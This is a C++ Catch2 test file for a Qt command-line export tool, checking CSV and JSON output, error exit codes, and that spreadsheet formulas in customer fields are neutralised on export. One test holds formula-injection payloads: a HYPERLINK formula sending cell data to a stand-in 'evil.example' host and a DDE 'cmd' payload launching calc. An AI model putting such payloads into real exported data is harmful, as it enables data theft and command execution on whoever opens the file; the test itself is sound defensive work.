#include "CliRun.h"
#include "TestSupport.h"
#include "core/customers/CustomerRepository.h"
#include "core/db/Database.h"
#include "core/util/Clock.h"

#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <catch2/catch.hpp>

using namespace threerings;

namespace {

using Run = test::CliRun;

Run run(const QStringList& args)
{
    return test::runCli(args);
}

} // namespace

TEST_CASE("export writes CSV and JSON lines from the command line")
{
    test::TempDb t;
    const QString db = t.path();
    t.db.reset();
    REQUIRE(run({QStringLiteral("--db"), db, QStringLiteral("init")}).code == 0);

    Run csv = run({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("audit"),
                   QStringLiteral("--format"), QStringLiteral("csv")});
    CHECK(csv.code == 0);
    CHECK(csv.out.startsWith(
        QStringLiteral("seq,table,row_id,op,field,old_value,new_value,changed_at,changed_by,"
                       "changed_by_job_number\r\n")));
    CHECK(csv.out.contains(QStringLiteral("settings")));

    const QString out = t.dir.filePath(QStringLiteral("calls.json"));
    Run json =
        run({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("calls"),
             QStringLiteral("--from"), QStringLiteral("2026-11-01"), QStringLiteral("--to"),
             QStringLiteral("2026-11-30"), QStringLiteral("--format=json"), QStringLiteral("--out"), out});
    CHECK(json.code == 0);
    CHECK(json.err.isEmpty());
    CHECK(QFile::exists(out));
}

TEST_CASE("export refuses bad input with the right exit code and a message naming the problem")
{
    test::TempDb t;
    const QString db = t.path();
    t.db.reset();
    REQUIRE(run({QStringLiteral("--db"), db, QStringLiteral("init")}).code == 0);
    const QStringList base{QStringLiteral("--db"), db, QStringLiteral("export")};

    Run r =
        run(base + QStringList{QStringLiteral("parrots"), QStringLiteral("--format"), QStringLiteral("csv")});
    CHECK(r.code == 2);
    CHECK(r.err.contains(QStringLiteral("parrots")));
    CHECK(r.err.contains(QStringLiteral("customers, calls, problem-forms")));
    CHECK(r.err.contains(QStringLiteral("tally, audit")));

    r = run(base + QStringList{QStringLiteral("calls"), QStringLiteral("--from"),
                               QStringLiteral("2026-02-30"), QStringLiteral("--format"),
                               QStringLiteral("csv")});
    CHECK(r.code == 2);
    CHECK(r.err.contains(QStringLiteral("--from")));

    r = run(base + QStringList{QStringLiteral("calls"), QStringLiteral("--to"), QStringLiteral("yesterday"),
                               QStringLiteral("--format"), QStringLiteral("csv")});
    CHECK(r.code == 2);
    CHECK(r.err.contains(QStringLiteral("--to")));

    r = run(base + QStringList{QStringLiteral("calls"), QStringLiteral("--from"),
                               QStringLiteral("2026-12-01"), QStringLiteral("--to"),
                               QStringLiteral("2026-11-01"), QStringLiteral("--format"),
                               QStringLiteral("csv")});
    CHECK(r.code == 2);
    CHECK(r.err.contains(QStringLiteral("after")));

    r = run(base + QStringList{QStringLiteral("calls")});
    CHECK(r.code == 2);
    CHECK(r.err.contains(QStringLiteral("--format")));

    r = run(base + QStringList{QStringLiteral("calls"), QStringLiteral("--format"), QStringLiteral("xml")});
    CHECK(r.code == 2);

    r = run(base + QStringList{QStringLiteral("calls"), QStringLiteral("--format"), QStringLiteral("csv"),
                               QStringLiteral("--out"), t.dir.filePath(QStringLiteral("no/such/dir/x.csv"))});
    CHECK(r.code == 4);
    CHECK(r.err.contains(QStringLiteral("--out")));

    r = run({QStringLiteral("--db"), t.dir.filePath(QStringLiteral("missing.sqlite")),
             QStringLiteral("export"), QStringLiteral("calls"), QStringLiteral("--format"),
             QStringLiteral("csv")});
    CHECK(r.code == 4);
    CHECK(r.err.contains(QStringLiteral("does not exist")));
    CHECK_FALSE(QFile::exists(t.dir.filePath(QStringLiteral("missing.sqlite"))));
}

TEST_CASE("a customer named like a spreadsheet formula is exported as text that runs nothing")
{
    QTemporaryDir dir;
    REQUIRE(dir.isValid());
    const QString db = dir.filePath(QStringLiteral("formula.sqlite"));
    test::makeDemoDatabase(db, 1);
    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")");
    {
        auto opened = Database::open(db, Database::Open::MustExist);
        REQUIRE(opened.ok());
        SystemClock clock;
        Customer c;
        c.name = evil;
        c.unit = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
        c.phoneMobile = QStringLiteral("13812345678");
        REQUIRE(CustomerRepository(**opened, clock).insert(c, {}).ok());
    }
    // By day (the record export) and whole (the set-up table an import reads back): both neutralise.
    const bool byDay = GENERATE(true, false);
    const QString out = dir.filePath(QStringLiteral("customers.csv"));
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("THREERINGS_PASSWORD"), QStringLiteral("demo8000"));
    const QStringList days =
        byDay ? QStringList{QStringLiteral("--from"), QStringLiteral("2000-01-01")} : QStringList();
    const Run r = test::runCli(QStringList{QStringLiteral("--db"), db, QStringLiteral("--user"),
                                           QStringLiteral("3001"), QStringLiteral("export"),
                                           QStringLiteral("customers"), QStringLiteral("--format"),
                                           QStringLiteral("csv"), QStringLiteral("--out"), out} +
                                   days,
                               {}, env);
    INFO(r.err.toStdString());
    REQUIRE(r.code == 0);
    QFile file(out);
    REQUIRE(file.open(QIODevice::ReadOnly));
    const QString csv = QString::fromUtf8(file.readAll());
    CHECK(csv.contains(
        QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for details\"\")\",")));
    CHECK(csv.contains(QStringLiteral(",\"'@SUM(1+1)*cmd|' /C calc'!A0\",")));
    // The phone stays a plain number, and no line starts a cell with a formula.
    CHECK(csv.contains(QStringLiteral(",+8613812345678,")));
    CHECK_FALSE(csv.contains(QStringLiteral(",=")));
    CHECK_FALSE(csv.contains(QStringLiteral(",@")));
    CHECK_FALSE(csv.contains(QStringLiteral("\n=")));
}
